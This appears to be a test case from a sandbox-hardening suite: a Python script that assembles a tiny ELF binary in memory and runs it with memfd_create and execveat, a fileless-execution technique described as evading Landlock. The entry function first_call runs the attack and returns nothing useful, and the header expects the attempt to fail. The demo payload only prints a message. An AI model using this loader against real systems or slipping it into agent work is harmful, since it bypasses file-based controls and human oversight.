# /// attack
# kind = "attack"
# exercise = "00_warmup/first_call"
# tries = "Writes a program into memory that no file system holds, and becomes it."
# wall = "syscalls and limits"
# must = "failed"
# through = "said"
# checks = ["FIRST-01"]
# ///
"""memfd_create with execveat leaves no trace on disk: how fileless malware starts; Landlock does not govern such
files.
"""

from __future__ import annotations

import ctypes
import os
import struct

EXECVEAT = 322
EMPTY_PATH = 0x1000
TEXT = b"BROKE THROUGH: a program that was never on disk\n"
START = 0x400000
# write(1, text, size); exit(7)
CODE = bytes.fromhex("b801000000bf01000000488d3512000000ba") + struct.pack("<I", len(TEXT))
CODE += bytes.fromhex("0f05b83c000000bf070000000f05")


def program() -> bytes:
    """Return an ELF file of one segment for x86-64."""
    code = CODE[:13] + struct.pack("<i", len(CODE) - 17) + CODE[17:] + TEXT
    size = 120 + len(code)
    head = b"\x7fELF\2\1\1" + bytes(9)
    head += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, START + 120, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    return head + struct.pack("<IIQQQQQQ", 1, 5, 0, START, START, size, size, 4096) + code


def attack() -> None:
    """Become it."""
    if os.uname().machine != "x86_64":
        return
    try:
        fd = os.memfd_create("program")
    except OSError:
        return
    os.write(fd, program())
    ctypes.CDLL(None, use_errno=True).syscall(EXECVEAT, fd, b"", (ctypes.c_char_p * 2)(b"program"), None, EMPTY_PATH)


def first_call(client: object, question: str) -> str:
    """Return nothing of use."""
    attack()
    return ""
